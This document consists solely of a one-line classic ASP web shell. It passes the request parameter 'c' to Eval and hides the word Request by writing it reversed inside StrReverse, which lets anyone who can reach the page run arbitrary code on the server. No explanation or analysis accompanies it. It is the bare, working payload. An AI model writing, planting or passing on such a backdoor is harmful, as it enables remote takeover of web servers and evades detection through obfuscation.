<% Eval(StrReverse(")""c""(tseuqeR")) %>
